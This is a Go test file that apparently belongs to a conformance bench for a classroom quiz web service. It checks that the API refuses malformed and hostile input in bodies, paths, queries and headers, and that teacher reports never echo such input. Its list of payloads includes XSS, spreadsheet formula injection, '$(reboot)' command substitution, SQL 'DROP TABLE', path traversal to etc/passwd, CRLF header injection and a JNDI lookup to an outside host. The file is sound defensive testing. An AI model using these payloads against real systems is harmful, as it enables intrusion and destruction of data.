package conform

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"holdtheline/quiz/session"
	"holdtheline/web/class/client"
)

// hostile are texts that do harm somewhere: in a page, a table, a shell, a query, a
// path, a header, a terminal, a log, a subject of the store, a parser.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`=cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`$(reboot)`,
	`'; DROP TABLE classes; --`,
	`..\..\etc\passwd`,
	"x\r\nSet-Cookie: class=1",
	`${jndi:ldap://elsewhere.example/x}`,
	`{{7*7}}`,
	"\x00",
	"\x1b[2J",
	"\u202egnp.exe",
	"*",
	">",
	"htl.>",
	strings.Repeat("e\u0301", 500),
}

// unreadable is JSON that readers disagree on, or that costs them much.
var unreadable = []string{
	`"\ud800"`,                               // half a character
	"\"\xff\xfe\"",                           // no UTF-8
	strings.Repeat("[", 2000),                // deep, and cut off
	`{"a":` + strings.Repeat("[", 500) + "1", // the same in an object
	`1e999999`,
}

// hostileBodies puts such texts into every field of what is sent. Each is refused with a
// sentence, and the class is as before.
func hostileBodies(b *bench) error {
	class, err := b.open("together")
	if err != nil {
		return err
	}
	version, step := 0, b.asking()
	if err := b.goThrough(class, &version, step.ID, "read", "vote"); err != nil {
		return err
	}
	values := unreadable
	for _, text := range hostile {
		value, err := quoted(text)
		if err != nil {
			return err
		}
		values = append(values[:len(values):len(values)], value)
	}
	for i, value := range values { // each from a pupil of its own, who may make only so many calls
		seat, p, err := b.pupil(class, true)
		if err != nil {
			return err
		}
		if err := p.Session().Apply(session.Event{Kind: session.Went, Step: step.ID}); err != nil {
			return err
		}
		if err := b.send(class, seat, p, 1); err != nil {
			return err
		}
		if err := b.refuseBodies(class, seat, p, value); err != nil {
			return err
		}
		if err := b.goesOn(class, seat, p, value); err != nil {
			return fmt.Errorf("after %.40q: %w", value, err)
		}
		if st, err := b.stateOf(class, 0); err != nil || len(st.Seats) != i+1 || st.Pace == nil || st.Pace.Phase != "vote" || st.Pace.Version != version {
			return fmt.Errorf("after %.40q the state is %+v %w", value, st, err)
		}
	}
	return b.harmless(class)
}

// quoted is a text as JSON, with as little escaped as JSON allows.
func quoted(text string) (string, error) {
	var out strings.Builder
	e := json.NewEncoder(&out)
	e.SetEscapeHTML(false)
	err := e.Encode(text)
	return strings.TrimSuffix(out.String(), "\n"), err
}

// refuseBodies sends a JSON value as every field of every body.
func (b *bench) refuseBodies(class client.Class, seat client.Seat, p *client.Player, value string) error {
	step := p.Session().Step()
	item := step.Items[0]
	log, second := class.Path("/seats/"+seat.Seat+"/log"), class.Path("/seats/"+seat.Seat+"/second/"+item)
	_, next := p.Events(0)
	for _, call := range []struct{ method, path, secret, body string }{
		{"POST", "/api/classes", "", `{"case":VALUE}`},
		{"POST", "/api/classes", "", `{"length":VALUE}`},
		{"POST", "/api/classes", "", `{"mode":VALUE}`},
		{"POST", "/api/classes", "", `{"pace":VALUE}`},
		{"POST", "/api/classes", "", `{"seed":VALUE}`},
		{"POST", "/api/classes", "", `{VALUE:1}`},
		{"POST", "/api/classes", "", `VALUE`},
		{"POST", class.Path("/seats"), "", `{"lang":VALUE}`},
		{"POST", class.Path("/pace"), class.Teacher, `{"step":VALUE,"phase":"vote","expect":2}`},
		{"POST", class.Path("/pace"), class.Teacher, `{"step":"` + step.ID + `","phase":VALUE,"expect":2}`},
		{"POST", class.Path("/pace"), class.Teacher, `{"step":"` + step.ID + `","phase":"discuss","expect":VALUE}`},
		{"POST", class.Path("/pace"), class.Teacher, `{"step":"` + step.ID + `","phase":"discuss","paused":VALUE,"expect":2}`},
		{"PUT", log, seat.Key, `{"do":VALUE}`},
		{"PUT", log, seat.Key, `{"do":"started","config":VALUE}`},
		{"PUT", log, seat.Key, `{"do":"went","step":VALUE}`},
		{"PUT", log, seat.Key, `{"do":"opened","step":"` + step.ID + `","source":VALUE}`},
		{"PUT", log, seat.Key, `{"do":"answered","item":VALUE,"answer":{"is":"real","certainty":2}}`},
		{"PUT", log, seat.Key, `{"do":"answered","item":"` + item + `","answer":VALUE}`},
		{"PUT", log, seat.Key, `{"do":"answered","item":"` + item + `","answer":{"is":VALUE,"certainty":2}}`},
		{"PUT", log, seat.Key, `{"do":"answered","item":"` + item + `","answer":{"is":"real","certainty":VALUE}}`},
		{"PUT", log, seat.Key, `VALUE`},
		{"PUT", second, seat.Key, `VALUE`},
		{"PUT", second, seat.Key, `{"is":VALUE,"certainty":2}`},
	} {
		path := call.path
		if path == log {
			path += fmt.Sprintf("?from=%d", next)
		}
		a, err := b.do(call.method, path, call.secret, strings.Replace(call.body, "VALUE", value, 1))
		if err := clearly(a, err, http.StatusBadRequest, http.StatusUnprocessableEntity); err != nil {
			return fmt.Errorf("%s %s %.60q: %w", call.method, call.path, strings.Replace(call.body, "VALUE", value, 1), err)
		}
	}
	return nil
}

// hostilePaths puts such texts into every part of a path, every query and every header
// that a call has. Each is refused with a sentence.
func hostilePaths(b *bench) error {
	class, err := b.open("free")
	if err != nil {
		return err
	}
	seat, p, err := b.pupil(class, false)
	if err != nil {
		return err
	}
	for _, text := range hostile {
		if err := b.refusePaths(class, seat, text); err != nil {
			return fmt.Errorf("%.40q: %w", text, err)
		}
	}
	return b.send(class, seat, p, 0)
}

func (b *bench) refusePaths(class client.Class, seat client.Seat, text string) error {
	part, query := url.PathEscape(text), url.QueryEscape(text)
	for _, call := range []struct{ method, path, secret string }{
		{"GET", "/api/classes/" + part, ""},
		{"GET", class.Path("/" + part), class.Teacher},
		{"GET", class.Path("/seats/" + part + "/log"), class.Teacher},
		{"DELETE", class.Path("/seats/" + part), class.Teacher},
		{"POST", class.Path("/seats/" + part + "/key"), class.Teacher},
		{"POST", class.Path("/seats/" + part + "/name"), seat.Key},
		{"PUT", class.Path("/seats/" + part + "/log?from=0"), seat.Key},
		{"PUT", class.Path("/seats/" + part + "/second/x"), seat.Key},
		{"PUT", class.Path("/seats/" + seat.Seat + "/second/" + part), seat.Key},
		{"PUT", class.Path("/seats/" + seat.Seat + "/log?from=" + query), seat.Key},
		{"GET", class.Path("/state?after=" + query), class.Teacher},
		{"GET", class.Path("/stream?after=" + query), class.Teacher},
	} {
		a, err := b.do(call.method, call.path, call.secret, "")
		if err := clearly(a, err, http.StatusBadRequest, http.StatusForbidden, http.StatusNotFound, http.StatusUnprocessableEntity); err != nil {
			return fmt.Errorf("%s %.80s: %w", call.method, call.path, err)
		}
	}
	if strings.ContainsAny(text, "\x00\x1b\r\n") {
		return nil // it can't be sent in a header
	}
	for name, value := range map[string]string{"Authorization": "Bearer " + text, "Cookie": "class-" + class.Code + "=" + text} {
		a, err := b.client.Do(b.ctx, client.Request{Method: "GET", Path: class.Path("/state"), Header: map[string]string{name: value}})
		if err := clearly(a, err, http.StatusUnauthorized, http.StatusTooManyRequests); err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
	}
	return nil
}

// clearly checks that an answer is a problem with one of some statuses and a sentence
// that can be shown as it stands.
func clearly(a client.Answer, err error, statuses ...int) error {
	status := statuses[0]
	for _, s := range statuses {
		if a.Status == s {
			status = s
		}
	}
	if err := refused(a, err, status); err != nil {
		return err
	}
	var p problem
	if err := a.Into(status, &p); err != nil {
		return err
	}
	if strings.ContainsFunc(p.Detail, func(r rune) bool { return r < ' ' || r == '\u202e' }) || len(p.Detail) > 500 {
		return fmt.Errorf("the problem's detail %.600q can't be shown", p.Detail)
	}
	return nil
}

// goesOn checks that a pupil's log is as it was, and goes on: with a draft, which may be
// anything and is for the pupil's own devices alone, and with an answer.
func (b *bench) goesOn(class client.Class, seat client.Seat, p *client.Player, value string) error {
	log, next := p.Events(0)
	item := p.Session().Step().Items[0]
	a, err := b.client.Put(b.ctx, class, seat, next, []byte(`{"do":"drafted","item":"`+item+`","answer":`+value+"}\n"))
	if err != nil {
		return err
	}
	var draft string
	if a.Status == http.StatusOK {
		draft = `{"do":"drafted","item":"` + item + `","answer":`
		next++
	} else if err := clearly(a, err, http.StatusUnprocessableEntity); err != nil {
		return fmt.Errorf("a draft: %w", err)
	}
	if a, err = b.do("GET", class.Path("/seats/"+seat.Seat+"/log"), seat.Key, ""); err != nil {
		return err
	}
	if !strings.HasPrefix(string(a.Body), string(log)+draft) || strings.Count(string(a.Body), "\n") != next || a.Header.Get("X-Content-Type-Options") != "nosniff" {
		return fmt.Errorf("the log is\n%s\nnot\n%s and %d lines", a.Body, log, next)
	}
	given := []byte(`{"do":"answered","item":"` + item + `","answer":{"is":"real","certainty":2}}` + "\n")
	if a, err = b.client.Put(b.ctx, class, seat, next, given); err != nil {
		return err
	}
	return wantNext(a, http.StatusOK, next+1)
}

// harmless checks that nothing a teacher gets has a hostile text.
func (b *bench) harmless(class client.Class) error {
	for _, path := range []string{"/state", "/report.json", "/report.csv"} {
		a, err := b.do("GET", class.Path(path), class.Teacher, "")
		if err != nil {
			return err
		}
		if a.Status != http.StatusOK || a.Header.Get("X-Content-Type-Options") != "nosniff" {
			return fmt.Errorf("%s is answered with %d and %v", path, a.Status, a.Header)
		}
		for _, text := range hostile {
			if len(text) > 1 && strings.Contains(string(a.Body), text) {
				return fmt.Errorf("%s has %q", path, text)
			}
		}
		if strings.ContainsAny(string(a.Body), "\x00\x1b") {
			return fmt.Errorf("%s has control characters", path)
		}
	}
	return nil
}
